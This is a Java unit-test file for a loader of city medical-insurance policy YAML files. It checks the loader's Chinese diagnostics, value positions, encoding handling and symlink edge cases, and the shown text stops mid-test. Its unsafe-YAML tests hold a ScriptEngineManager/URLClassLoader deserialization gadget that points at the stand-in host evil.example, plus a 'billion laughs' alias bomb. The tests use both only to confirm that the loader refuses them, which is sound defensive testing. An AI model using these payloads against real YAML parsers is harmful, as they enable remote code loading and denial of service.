package cn.liaoning.ybj.policycheck.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeFalse;

import cn.liaoning.ybj.policycheck.engine.TestSupport;
import cn.liaoning.ybj.policycheck.policy.Diagnostic.Severity;
import cn.liaoning.ybj.policycheck.policy.Facts.Scheme;
import cn.liaoning.ybj.policycheck.policy.Facts.Setting;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.LocalDate;
import java.time.MonthDay;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The city-policy loader: what it accepts, and how exactly it explains what it refuses. */
class PolicyLoaderTest {
  private static final Set<String> RULES = Set.of("EMP-CAP-MIN", "EMP-OUTPATIENT-DEDUCT-MIN");

  private static PolicyLoader.Loaded load(String text) {
    return new PolicyLoader(RULES).load("x.yaml", text);
  }

  private static PolicyLoader.Loaded load(byte[] bytes) {
    return new PolicyLoader(RULES).load("x.yaml", bytes);
  }

  /** The single diagnostic of a load, checked in full; the policy must be null for an error. */
  private static Diagnostic only(PolicyLoader.Loaded l, int line, int column, Severity severity, String fragment) {
    assertEquals(1, l.diagnostics().size(), () -> "diagnostics:\n" + show(l));
    Diagnostic d = l.diagnostics().get(0);
    assertDiagnostic(d, line, column, severity, fragment);
    if (severity == Severity.ERROR) {
      assertNull(l.policy(), "a file with an error gives no policy");
      assertFalse(l.ok());
    } else {
      assertNotNull(l.policy(), "a warning does not stop loading");
    }
    return d;
  }

  private static void assertDiagnostic(Diagnostic d, int line, int column, Severity severity, String fragment) {
    assertEquals(line, d.line(), () -> "line of " + d.format());
    assertEquals(column, d.column(), () -> "column of " + d.format());
    assertEquals(severity, d.severity(), () -> "severity of " + d.format());
    assertTrue(d.message().contains(fragment), () -> "message should contain “" + fragment + "”: " + d.format());
    assertEquals("x.yaml", d.file());
    assertFalse(d.message().contains("Exception"), () -> "no Java exception names for the user: " + d.message());
  }

  private static String show(PolicyLoader.Loaded l) {
    return l.diagnostics().stream().map(Diagnostic::format).collect(Collectors.joining("\n"));
  }

  /** 1-based line of the first line of {@code text} containing {@code needle}. */
  private static int lineOf(String text, String needle) {
    String[] lines = text.split("\n", -1);
    for (int i = 0; i < lines.length; i++) {
      if (lines[i].contains(needle)) {
        return i + 1;
      }
    }
    throw new AssertionError(needle + " not in\n" + text);
  }

  /** 1-based column where {@code needle} starts on its line. */
  private static int columnOf(String text, String needle) {
    String line = text.split("\n", -1)[lineOf(text, needle) - 1];
    return line.indexOf(needle) + 1;
  }

  // --- what loads ----------------------------------------------------------------------------

  @Test
  void compliantFixtureLoadsWithoutAnyDiagnostic() {
    PolicyLoader.Loaded l = load(TestSupport.compliant());
    assertEquals(List.of(), l.diagnostics(), () -> show(l));
    CityPolicy p = l.policy();
    assertNotNull(p);
    assertEquals("合规市", p.city());
    assertEquals(LocalDate.of(2026, 1, 1), p.jurisdiction().policyDate());
    assertEquals(150000.0, p.employeeBenefits().annualCap());
    assertEquals(0.8, p.maternity().ratePct(), "a maternity rate below 1% is not taken for a fraction");
    assertEquals(MonthDay.of(12, 31), p.resident().subsidyDisbursedBy());
    assertEquals(10, p.hospitalClasses().size());
    HospitalClass second = p.hospitalClasses().get(1);
    assertEquals("employee.inpatient.classes[1]", second.path());
    assertEquals(Scheme.EMPLOYEE, second.scheme());
    assertEquals(Setting.INPATIENT, second.setting());
    assertEquals("二级", second.name());
    assertEquals(2, second.tier());
    assertEquals(400.0, second.deductible());
  }

  @Test
  void nullOrMissingValueLoadsAsUnknownNeverZero() {
    PolicyLoader.Loaded l = load(TestSupport.compliantWith(
        "employee.annual_cap", null,
        "maternity.rate_pct", null,
        "resident.waiting.fixed_months", TestSupport.DELETE,
        "employee.inpatient.classes[0].deductible", TestSupport.DELETE));
    assertEquals(List.of(), l.diagnostics(), () -> show(l));
    CityPolicy p = l.policy();
    assertNull(p.employeeBenefits().annualCap());
    assertNull(p.maternity().ratePct());
    assertNull(p.residentWaiting().fixedMonths());
    assertNull(p.hospitalClasses().get(0).deductible());

    PolicyLoader.Loaded inline = load("city: x\nemployee:\n  annual_cap:\n  high_value_drug_deductible: ~\n"
        + "  ratios_vary_by: null\n");
    assertEquals(List.of(), inline.diagnostics(), () -> show(inline));
    assertNull(inline.policy().employeeBenefits().annualCap());
    assertNull(inline.policy().employeeBenefits().highValueDrugDeductible());
    assertNull(inline.policy().employeeBenefits().ratiosVaryBy(), "a null list is unknown, not empty");
    assertNull(inline.policy().contribution().employerRatePct());
  }

  @Test
  void utf8ByteOrderMarkAndCrlfLineEndingsAreAccepted() {
    String crlf = TestSupport.compliant().replace("\n", "\r\n");
    byte[] text = crlf.getBytes(StandardCharsets.UTF_8);
    byte[] withBom = new byte[text.length + 3];
    withBom[0] = (byte) 0xEF;
    withBom[1] = (byte) 0xBB;
    withBom[2] = (byte) 0xBF;
    System.arraycopy(text, 0, withBom, 3, text.length);
    PolicyLoader.Loaded l = load(withBom);
    assertEquals(List.of(), l.diagnostics(), () -> show(l));
    assertEquals("合规市", l.policy().city(), "the byte-order mark is not part of the first key");
    assertEquals(new Position(26, 15), l.policy().position("employee.annual_cap"));

    // Positions and the quoted source line are right with a BOM and CRLF too.
    byte[] bad = "\uFEFFcity: x\r\nemployee:\r\n  annual_cap: -5\r\n".getBytes(StandardCharsets.UTF_8);
    Diagnostic d = only(load(bad), 3, 15, Severity.ERROR, "不能为负数");
    assertEquals("  annual_cap: -5", d.sourceLine());
  }

  // --- positions and sources -----------------------------------------------------------------

  @Test
  void everyValueKeepsItsLineAndColumn() {
    CityPolicy p = load(TestSupport.compliant()).policy();
    assertEquals(new Position(26, 15), p.position("employee.annual_cap"));
    assertEquals(new Position(2, 7), p.position("city"));
    // a value inside a flow mapping: "      - { name: 二级, tier: 2, deductible: 400, …"
    assertEquals(new Position(33, 42), p.position("employee.inpatient.classes[1].deductible"));
    assertEquals(new Position(33, 9), p.position("employee.inpatient.classes[1]"));
    // a mapping is located at its key
    assertEquals(new Position(42, 3), p.position("employee.linkage"));
    assertEquals(new Position(12, 1), p.position("employee"));
    assertEquals(new Position(33, 42), p.position(p.hospitalClasses().get(1).path("deductible")));
  }

  @Test
  void missingFieldFallsBackToItsNearestWrittenAncestor() {
    String text = "city: x\n"
        + "employee:\n"
        + "  inpatient:\n"
        + "    classes:\n"
        + "      - name: 一级\n"
        + "        tier: 1\n";
    CityPolicy p = load(text).policy();
    assertEquals(new Position(5, 9), p.position("employee.inpatient.classes[0].deductible"),
        "a field the class does not write: the class itself");
    assertEquals(new Position(2, 1), p.position("employee.linkage.flexible_waiting_months"),
        "a whole block left out: the nearest key that is written");
    assertNull(p.position("maternity.rate_pct"), "nothing written on the way: no position");
    assertNull(p.position(null));
  }

  @Test
  void sourceOfPicksTheNearestSourceKey() {
    String text = "city: x\n"
        + "sources:\n"
        + "  - { id: a, title: 市政策 }\n"
        + "  - { id: b, title: 职工指南 }\n"
        + "  - { id: c, title: 住院通知 }\n"
        + "source: a\n"
        + "employee:\n"
        + "  source: b\n"
        + "  annual_cap: 150000\n"
        + "  inpatient:\n"
        + "    classes:\n"
        + "      - { name: 一级, tier: 1, deductible: 200, source: c }\n"
        + "      - { name: 二级, tier: 2, deductible: 400 }\n";
    PolicyLoader.Loaded l = load(text);
    assertEquals(List.of(), l.diagnostics(), () -> show(l));
    CityPolicy p = l.policy();
    assertEquals("c", p.sourceOf("employee.inpatient.classes[0].deductible").id());
    assertEquals("住院通知", p.sourceOf("employee.inpatient.classes[0].deductible").title());
    assertEquals("b", p.sourceOf("employee.inpatient.classes[1].deductible").id());
    assertEquals("b", p.sourceOf("employee.annual_cap").id());
    assertEquals("a", p.sourceOf("maternity.rate_pct").id());

    // Without a file-wide source: the only source, or nothing when there are several.
    CityPolicy one = load("city: x\nsources: [{id: s1}]\nemployee: {annual_cap: 1}\n").policy();
    assertEquals("s1", one.sourceOf("employee.annual_cap").id());
    CityPolicy two = load("city: x\nsources: [{id: s1}, {id: s2}]\nemployee: {annual_cap: 1}\n").policy();
    assertNull(two.sourceOf("employee.annual_cap"));
  }

  @Test
  void aSourceThatIsNotListedIsAnErrorWithAHint() {
    only(load("city: x\nsources: [{id: sy-guide}]\nemployee: {source: sy-giude, annual_cap: 1}\n"),
        3, 20, Severity.ERROR, "来源“sy-giude”未在 sources 中列出，是否想写“sy-guide”？");
  }

  @Test
  void loadedPolicyCannotBeChanged() {
    CityPolicy p = load(TestSupport.compliant()).policy();
    assertThrows(UnsupportedOperationException.class, () -> p.doc().values().put("employee.annual_cap", 0.0));
    assertThrows(UnsupportedOperationException.class, () -> p.doc().positions().clear());
    assertThrows(UnsupportedOperationException.class, () -> p.hospitalClasses().clear());
    assertThrows(UnsupportedOperationException.class, () -> p.sources().clear());
  }

  // --- unsafe YAML ---------------------------------------------------------------------------

  /** Would record its construction; the loader must never build it. */
  public static final class Canary {
    static final AtomicBoolean BUILT = new AtomicBoolean();

    public Canary() {
      BUILT.set(true);
    }

    public Canary(String s) {
      BUILT.set(true);
    }
  }

  @Test
  void scriptEngineTagIsRefusedWhereItIsWritten() {
    String text = "city: x\n"
        + "employee: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n";
    PolicyLoader.Loaded l = load(text);
    assertNull(l.policy());
    assertEquals(3, l.diagnostics().size(), () -> show(l));
    assertDiagnostic(l.diagnostics().get(0), 2, 11, Severity.ERROR, "不允许使用 YAML 标签（!!javax.script.ScriptEngineManager）");
    assertDiagnostic(l.diagnostics().get(1), 2, 47, Severity.ERROR, "!!java.net.URLClassLoader");
    assertDiagnostic(l.diagnostics().get(2), 2, 75, Severity.ERROR, "!!java.net.URL");
  }

  @Test
  void taggedValueIsNeverConstructedAndTheRestOfTheFileIsStillChecked() {
    Canary.BUILT.set(false);
    String text = "city: x\n"
        + "maternity: !!" + Canary.class.getName() + " [boom]\n"
        + "employee: {anual_cap: 1}\n";
    PolicyLoader.Loaded l = load(text);
    assertFalse(Canary.BUILT.get(), "a tag must never construct an object");
    assertNull(l.policy());
    assertEquals(2, l.diagnostics().size(), () -> show(l));
    assertDiagnostic(l.diagnostics().get(0), 2, 12, Severity.ERROR, "不允许使用 YAML 标签");
    assertDiagnostic(l.diagnostics().get(1), 3, 12, Severity.ERROR, "未知的键“anual_cap”");
  }

  @Test
  void evenStandardAndLocalTagsAreRefused() {
    only(load("city: x\ncode: !!str 2101\n"), 2, 7, Severity.ERROR, "不允许使用 YAML 标签（!!str）");
    only(load("city: x\nemployee: !local {annual_cap: 5}\n"), 2, 11, Severity.ERROR, "不允许使用 YAML 标签（!local）");
  }

  @Test
  void aliasBombIsRefusedWithoutExpandingIt() {
    String text = "city: x\n"
        + "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
        + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
        + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
        + "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
        + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
        + "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
        + "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"
        + "i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n";
    PolicyLoader.Loaded l = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> load(text));
    assertNull(l.policy());
    List<Diagnostic> bomb = l.diagnostics().stream().filter(d -> d.message().contains("别名炸弹")).toList();
    assertEquals(1, bomb.size(), () -> show(l));
    assertDiagnostic(bomb.get(0), 3, 8, Severity.ERROR, "YAML 别名过多（72 个");
    // every anchor is named where it is written, nothing else (the file is not composed)
    assertEquals(9 + 1, l.diagnostics().size(), () -> show(l));
    assertDiagnostic(l.diagnostics().get(0), 2, 4, Severity.ERROR, "不支持 YAML 锚点（&a）");
  }

  @Test
  void aFewAnchorsAndAliasesAreRefusedEachWhereWritten() {
    String text = "city: x\nmaternity: &m {rate_pct: 1}\nresident: *m\n";
    PolicyLoader.Loaded l = load(text);
    assertNull(l.policy());
    assertEquals(2, l.diagnostics().size(), () -> show(l));
    assertDiagnostic(l.diagnostics().get(0), 2, 12, Severity.ERROR, "不支持 YAML 锚点（&m）");
    assertDiagnostic(l.diagnostics().get(1), 3, 11, Severity.ERROR, "不支持 YAML 别名（*m）");
  }

  @Test
  void mergeKeyIsRefused() {
    only(load("city: x\n<<: {code: \"1\"}\n"), 2, 1, Severity.ERROR, "不支持 YAML 合并键“<<”");
  }

  @Test
  void nestingAndSizeAreBounded() {
    String deep = "city: x\nemployee: " + "[".repeat(200) + "]".repeat(200) + "\n";
    only(load(deep), 0, 0, Severity.ERROR, "嵌套过深");
    byte[] huge = new byte[PolicyReader.MAX_BYTES + 1];
    java.util.Arrays.fill(huge, (byte) 'a');
    only(load(huge), 0, 0, Severity.ERROR, "文件过大");
  }

  // --- wrong values --------------------------------------------------------------------------

  @Test
  void wrongTypesAreNamedWithWhatWasFound() {
    only(load("city: x\nemployee:\n  annual_cap: [1, 2]\n"), 3, 15, Severity.ERROR, "“employee.annual_cap”应为数字，而不是列表");
    only(load("city: x\nemployee: 5\n"), 2, 11, Severity.ERROR, "“employee”应为键值映射");
    only(load("city: x\nwaivers: {rule: X}\n"), 2, 10, Severity.ERROR, "“waivers”应为列表");
    only(load("city: x\nmaternity:\n  base_same_as_employee: 是\n"), 3, 26, Severity.ERROR, "应为 true 或 false，而不是“是”");
    only(load("city: x\nemployee:\n  inpatient:\n    classes:\n      - { name: 一级, tier: 1.5 }\n"),
        5, 27, Severity.ERROR, "应为整数");
    only(load("city: [沈阳]\n"), 1, 7, Severity.ERROR, "“city”应为文字，而不是列表");
  }

  @Test
  void tierOtherThanOneToThreeIsRefused() {
    String cls = "city: x\nemployee:\n  inpatient:\n    classes:\n      - { name: 特级, tier: %s }\n";
    only(load(String.format(cls, "4")), 5, 27, Severity.ERROR, "“employee.inpatient.classes[0].tier”的值 4 超出允许范围 1–3");
    only(load(String.format(cls, "0")), 5, 27, Severity.ERROR, "的值 0 超出允许范围 1–3");
    assertEquals(List.of(), load(String.format(cls, "1")).diagnostics());
    assertEquals(3, load(String.format(cls, "3")).policy().hospitalClasses().get(0).tier());
  }

  @Test
  void unsupportedFormatVersionIsRefused() {
    only(load("format: 2\ncity: x\n"), 1, 9, Severity.ERROR, "不支持的格式版本 format: 2");
    assertEquals(List.of(), load("format: 1\ncity: x\n").diagnostics());
  }

  @Test
  void negativeMoneyIsRefused() {
    only(load("city: x\nemployee:\n  annual_cap: -1\n"), 3, 15, Severity.ERROR, "“employee.annual_cap”的值 -1 不能为负数");
    assertEquals(0.0, load("city: x\nemployee:\n  annual_cap: 0\n").policy().employeeBenefits().annualCap());
  }

  @Test
  void percentageOverOneHundredIsRefused() {
    only(load("city: x\nresident:\n  chronic_drug_ratio_pct: 100.5\n"), 3, 27, Severity.ERROR,
        "“resident.chronic_drug_ratio_pct”的值 100.5 超出允许范围 0–100%");
    assertEquals(100.0, load("city: x\nresident:\n  chronic_drug_ratio_pct: 100\n").policy().resident().chronicDrugRatioPct());
    // a base is a percentage of the average wage, which may exceed 100
    assertEquals(300.0, load("city: x\nemployee:\n  contribution: {base_ceiling_pct: 300}\n").policy().contribution().baseCeilingPct());
  }

  @Test
  void unknownKeySuggestsWhatWasMeant() {
    only(load("city: x\nemployee:\n  anual_cap: 150000\n"), 3, 3, Severity.ERROR,
        "未知的键“anual_cap”（“employee”中），是否想写“annual_cap”？");
    only(load("city: x\nemployee:\n  inpatient:\n    classes:\n      - { name: 一级, tire: 1 }\n"), 5, 21, Severity.ERROR,
        "是否想写“tier”？");
    only(load("city: x\nmaternity: {rate: 1}\n"), 2, 13, Severity.ERROR, "是否想写“rate_pct”？");
    // nothing close: the allowed keys are listed instead
    Diagnostic d = only(load("city: x\n城市: 沈阳\n"), 2, 1, Severity.ERROR, "未知的键“城市”（顶层）；允许的键：");
    assertTrue(d.message().contains("employee"), d.message());
    // an employee class uses two ratios, not the resident's one
    only(load("city: x\nemployee:\n  inpatient:\n    classes:\n      - { name: 一级, ratio_pct: 80 }\n"), 5, 21,
        Severity.ERROR, "in_service_pct（在职）和 retired_pct（退休）");
  }

  @Test
  void duplicateKeyNamesTheFirstOccurrence() {
    only(load("city: x\nemployee:\n  annual_cap: 1\n  annual_cap: 2\n"), 4, 3, Severity.ERROR,
        "重复的键“annual_cap”（第一次出现在第 3 行）");
    only(load("city: x\ncity: y\n"), 2, 1, Severity.ERROR, "重复的键“city”");
  }

  @Test
  void duplicateHospitalClassNamesAreRefused() {
    String text = "city: x\nemployee:\n  outpatient:\n    classes:\n"
        + "      - { name: 三级, tier: 3 }\n"
        + "      - { name: 二级, tier: 2 }\n"
        + "      - { name: 三级, tier: 3 }\n";
    only(load(text), 7, 17, Severity.ERROR, "“employee.outpatient.classes”中名称“三级”重复（第一次出现在第 5 行）");
    // the same name in two different lists is fine
    assertEquals(List.of(), load("city: x\nemployee:\n  inpatient: {classes: [{name: 三级}]}\n"
        + "  outpatient: {classes: [{name: 三级}]}\n").diagnostics());
  }

  @Test
  void duplicateSourceIdIsRefused() {
    only(load("city: x\nsources:\n  - id: a\n  - id: a\n"), 4, 9, Severity.ERROR, "来源 id“a”重复（第一次出现在第 3 行）");
  }

  @Test
  void requiredKeysMustBeWritten() {
    only(load("code: \"2101\"\n"), 1, 1, Severity.ERROR, "缺少必填的键“city”");
    only(load("city: x\nemployee:\n  inpatient:\n    classes:\n      - { tier: 1 }\n"), 5, 9, Severity.ERROR,
        "缺少必填的键“name”（在 employee.inpatient.classes[0] 中）");
    only(load("city: null\n"), 1, 7, Severity.ERROR, "“city”不能为空");
  }

  @Test
  void textWhereANumberGoesGetsAHelpfulMessage() {
    only(load("city: x\nemployee:\n  contribution:\n    individual_rate_pct: \"8%\"\n"), 4, 26, Severity.ERROR,
        "应为数字，而不是“8%”（百分比直接写数字，如 8 表示 8%，不要加“%”：是否想写 8？）");
    only(load("city: x\nemployee:\n  contribution:\n    individual_rate_pct: 8%\n"), 4, 26, Severity.ERROR, "是否想写 8？");
    only(load("city: x\nemployee:\n  annual_cap: 八万\n"), 3, 15, Severity.ERROR,
        "“employee.annual_cap”应为数字，而不是“八万”（金额以元为单位写阿拉伯数字，如 80000）");
    only(load("city: x\nemployee:\n  annual_cap: 8万\n"), 3, 15, Severity.ERROR, "是否想写 80000？");
    only(load("city: x\nemployee:\n  annual_cap: \"80,000\"\n"), 3, 15, Severity.ERROR, "不要用逗号分隔千位：是否想写 80000？");
    only(load("city: x\nemployee:\n  annual_cap: 300元\n"), 3, 15, Severity.ERROR, "不要带单位：是否想写 300？");
    only(load("city: x\nemployee:\n  annual_cap: \"300\"\n"), 3, 15, Severity.ERROR, "数字不要加引号：是否想写 300？");
  }

  @Test
  void percentWrittenAsFractionIsAWarningAndTheFileStillLoads() {
    Diagnostic d = only(load("city: x\nemployee:\n  contribution:\n    employer_rate_pct: 0.08\n"), 4, 24, Severity.WARNING,
        "像是小数写法");
    assertTrue(d.message().contains("是否想写 8？"), d.message());
    PolicyLoader.Loaded l = load("city: x\nemployee:\n  contribution:\n    employer_rate_pct: 0.08\n");
    assertEquals(0.08, l.policy().contribution().employerRatePct(), "the value is kept as written");
    // exact decimal arithmetic in the hint: 0.07 is 7, not 7.000000000000001
    only(load("city: x\nemployee:\n  inpatient:\n    classes: [{name: 一级, in_service_pct: 0.07}]\n"), 4, 42,
        Severity.WARNING, "是否想写 7？");
    // a maternity rate is below 1% for real; only a value below 0.1 there looks like a fraction
    assertEquals(List.of(), load("city: x\nmaternity: {rate_pct: 0.5}\n").diagnostics());
    only(load("city: x\nmaternity: {rate_pct: 0.008}\n"), 2, 23, Severity.WARNING, "是否想写 0.8？");
  }

  @Test
  void datesThatDoNotExistAreErrors() {
    only(load("city: x\npolicy_date: 2026-02-30\n"), 2, 14, Severity.ERROR, "“policy_date”的日期“2026-02-30”不存在");
    only(load("city: x\nwaivers:\n  - { rule: EMP-CAP-MIN, expires: 2027-13-01 }\n"), 3, 35, Severity.ERROR, "不存在");
    only(load("city: x\npolicy_date: 2026-1-5\n"), 2, 14, Severity.ERROR, "应为日期 YYYY-MM-DD");
    only(load("city: x\nresident: {subsidy_disbursed_by: 02-30}\n"), 2, 34, Severity.ERROR, "月-日“02-30”不存在");
    assertEquals(LocalDate.of(2028, 2, 29), load("city: x\npolicy_date: 2028-02-29\n").policy().jurisdiction().policyDate());
    assertEquals(LocalDate.of(2026, 1, 1), load("city: x\npolicy_date: \"2026-01-01\"\n").policy().jurisdiction().policyDate());
  }

  @Test
  void unknownEnumValueSuggestsTheRightOne() {
    only(load("city: x\nemployee:\n  linkage: {interruption_suspend_from: next month}\n"), 3, 40, Severity.ERROR,
        "（是否想写 next_month？）");
  }

  @Test
  void waiverOfAnUnknownRuleIsAnError() {
    only(load("city: x\nwaivers:\n  - rule: EMP-CAP-MNI\n"), 3, 11, Severity.ERROR,
        "豁免所指的规则“EMP-CAP-MNI”不在规则目录中，是否想写“EMP-CAP-MIN”？");
  }

  // --- files that are not policies -----------------------------------------------------------

  @Test
  void emptyFileIsAnError() {
    only(load(""), 0, 0, Severity.ERROR, "文件为空");
    only(load("  \n\n"), 0, 0, Severity.ERROR, "文件为空");
    only(load("# 只有注释\n---\n"), 0, 0, Severity.ERROR, "文件为空");
    only(load(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}), 0, 0, Severity.ERROR, "文件为空");
  }

  @Test
  void fileThatIsAListIsAnError() {
    only(load("- city: 沈阳市\n- city: 大连市\n"), 1, 1, Severity.ERROR, "文件顶层应为键值映射（city: …），而不是列表");
    only(load("沈阳市\n"), 1, 1, Severity.ERROR, "而不是“沈阳市”");
  }

  @Test
  void binaryJunkIsAnError() {
    byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 0x0D, 'I', 'H', 'D', 'R'};
    only(load(png), 2, 1, Severity.ERROR, "这不是文本文件（二进制文件？）");
    byte[] noise = {'c', 'i', 't', 'y', ':', ' ', (byte) 0xC3, 0x28, 0x01, (byte) 0xFF};
    only(load(noise), 1, 9, Severity.ERROR, "二进制文件");
  }

  @Test
  void gbkTextIsAnError() {
    byte[] gbk = "code: \"2101\"\ncity: 沈阳市\n".getBytes(Charset.forName("GBK"));
    only(load(gbk), 2, 7, Severity.ERROR, "不是有效的 UTF-8 文本（看起来是 GBK/GB18030 编码）：请用编辑器另存为 UTF-8");
  }

  @Test
  void utf16IsAnError() {
    byte[] utf16 = "city: x\n".getBytes(StandardCharsets.UTF_16); // with its byte-order mark
    only(load(utf16), 0, 0, Severity.ERROR, "UTF-16");
  }

  @Test
  void strayControlCharacterIsPlaced() {
    only(load("city: x\ncode: a\u000Cb\n"), 2, 8, Severity.ERROR, "不允许的字符 U+000C");
    only(load("city: x\ncode: a\u2028b\n"), 2, 8, Severity.ERROR, "特殊换行符 U+2028");
  }

  @Test
  void twoDocumentsAreAnError() {
    only(load("city: x\n---\ncity: y\n"), 2, 1, Severity.ERROR, "只能包含一个 YAML 文档");
  }

  @Test
  void syntaxErrorsAreExplainedInChinese() {
    only(load("city: x\nemployee:\n\tannual_cap: 5\n"), 3, 1, Severity.ERROR, "YAML 语法错误：缩进中有制表符（Tab），请改用空格");
    only(load("city: x\nemployee:\n  annual_cap: 5\n foo: 3\n"), 4, 2, Severity.ERROR, "缩进不一致");
    only(load("city: \"沈阳\nemployee: 1\n"), 3, 1, Severity.ERROR, "引号或括号没有闭合");
    only(load("city：沈阳\ncode: \"1\"\n"), 2, 5, Severity.ERROR, "半角冒号");
  }

  // --- all problems at once ------------------------------------------------------------------

  @Test
  void allProblemsOfAFileAreReportedTogetherInFileOrder() {
    String text = "city: 测试市\n"                                       // 1
        + "policy_date: 2026-02-30\n"                                    // 2 error
        + "employee:\n"                                                  // 3
        + "  annual_cap: \"八万\"\n"                                     // 4 error
        + "  contribution:\n"                                            // 5
        + "    employer_rate_pct: 0.08\n"                                // 6 warning
        + "    base_floor_pct: 60\n"                                     // 7
        + "    base_floor_pct: 70\n"                                     // 8 error
        + "  anual_cap: 5\n"                                             // 9 error
        + "  inpatient:\n"                                               // 10
        + "    classes:\n"                                               // 11
        + "      - { name: 一级, tier: 4, deductible: -1 }\n"            // 12 two errors
        + "      - { name: 一级, tier: 1, in_service_pct: 101 }\n"       // 13 two errors
        + "waivers:\n"                                                   // 14
        + "  - rule: EMP-CAP-MNI\n";                                     // 15 error (found after mapping)
    PolicyLoader.Loaded l = load(text);
    assertNull(l.policy());
    List<Integer> lines = l.diagnostics().stream().map(Diagnostic::line).toList();
    assertEquals(List.of(2, 4, 6, 8, 9, 12, 12, 13, 13, 15), lines, () -> show(l));
    assertEquals(9, l.diagnostics().stream().filter(Diagnostic::isError).count());
    assertEquals(Severity.WARNING, l.diagnostics().get(2).severity());
    assertDiagnostic(l.diagnostics().get(5), 12, 27, Severity.ERROR, "超出允许范围 1–3");
    assertDiagnostic(l.diagnostics().get(6), 12, 42, Severity.ERROR, "不能为负数");
    assertDiagnostic(l.diagnostics().get(7), 13, 17, Severity.ERROR, "名称“一级”重复");
    assertDiagnostic(l.diagnostics().get(8), 13, 46, Severity.ERROR, "超出允许范围 0–100%");
  }

  // --- output shape --------------------------------------------------------------------------

  @Test
  void formatGivesFileLineColumnSeverityMessageSourceLineAndCaret() {
    Diagnostic d = only(load("city: x\nemployee:\n  annual_cap: -5\n"), 3, 15, Severity.ERROR, "不能为负数");
    assertEquals("x.yaml:3:15: 错误: “employee.annual_cap”的值 -5 不能为负数\n"
        + "      annual_cap: -5\n"
        + "                  ^", d.format());

    // wide characters before the column take two places, so the caret stays under the value
    Diagnostic wide = only(load("city: x\nemployee:\n  inpatient:\n    classes: [{name: 一级, tier: 9}]\n"), 4, 32,
        Severity.ERROR, "超出允许范围");
    String[] shown = wide.format().split("\n");
    assertEquals(3, shown.length);
    assertEquals("    " + "    classes: [{name: 一级, tier: 9}]", shown[1]);
    assertEquals(" ".repeat(4 + 31 + 2) + "^", shown[2]);

    Diagnostic warning = new Diagnostic("a.yaml", 2, 3, Severity.WARNING, "注意", "x: 0.5");
    assertEquals("a.yaml:2:3: 警告: 注意\n    x: 0.5\n      ^", warning.format());
    assertEquals("a.yaml: 错误: 文件为空", new Diagnostic("a.yaml", 0, 0, Severity.ERROR, "文件为空", null).format());
  }

  // --- files and directories -----------------------------------------------------------------

  @Test
  void directoryWithSymlinkLoopDoesNotCrash(@TempDir Path dir) throws IOException {
    Files.writeString(dir.resolve("ok.yaml"), TestSupport.compliant());
    Files.createSymbolicLink(dir.resolve("a.yaml"), dir.resolve("b.yaml"));
    Files.createSymbolicLink(dir.resolve("b.yaml"), dir.resolve("a.yaml"));
    Files.createSymbolicLink(dir.resolve("self.yaml"), dir.resolve("self.yaml"));
    Files.createSymbolicLink(dir.resolve("sub"), dir); // a directory loop: not followed
    Files.createDirectory(dir.resolve("folder.yaml"));

    List<Diagnostic> problems = new ArrayList<>();
    List<Path> files = PolicyLoader.expand(List.of(dir, dir.resolve("self.yaml"), dir.resolve("nothing.yaml")), problems);
    assertEquals(List.of(dir.resolve("a.yaml"), dir.resolve("b.yaml"), dir.resolve("folder.yaml"), dir.resolve("ok.yaml"),
        dir.resolve("self.yaml")), files);
    assertEquals(2, problems.size(), problems::toString);
    assertEquals(dir.resolve("self.yaml").toString(), problems.get(0).file());
    assertTrue(problems.get(0).message().contains("符号链接无法解析"), problems.get(0).message());
    assertEquals(dir.resolve("nothing.yaml").toString(), problems.get(1).file());
    assertEquals("文件或目录不存在", problems.get(1).message());

    PolicyLoader loader = new PolicyLoader(RULES);
    for (Path f : files) {
      PolicyLoader.Loaded l = loader.load(f);
      if (f.endsWith("ok.yaml")) {
        assertEquals(List.of(), l.diagnostics());
        assertNotNull(l.policy());
        continue;
      }
      assertNull(l.policy(), f.toString());
      assertEquals(1, l.diagnostics().size());
      Diagnostic d = l.diagnostics().get(0);
      assertEquals(0, d.line());
      assertEquals(f.toString(), d.file());
      String expected = f.endsWith("folder.yaml") ? "这是一个目录" : "符号链接无法解析";
      assertTrue(d.message().contains(expected), d.message());
    }

    // a looping link given as the argument itself
    List<Diagnostic> direct = new ArrayList<>();
    Path loop = dir.resolve("loop");
    Files.createSymbolicLink(loop, loop);
    assertEquals(List.of(), PolicyLoader.expand(List.of(loop), direct));
    assertEquals(1, direct.size());
    assertTrue(direct.get(0).message().contains("符号链接无法解析"), direct.get(0).message());
  }

  @Test
  void unreadableFileAndDirectoryDoNotCrash(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("secret.yaml");
    Files.writeString(file, TestSupport.compliant());
    Path closed = dir.resolve("closed");
    Files.createDirectory(closed);
    Files.writeString(closed.resolve("c.yaml"), "city: x\n");
    try {
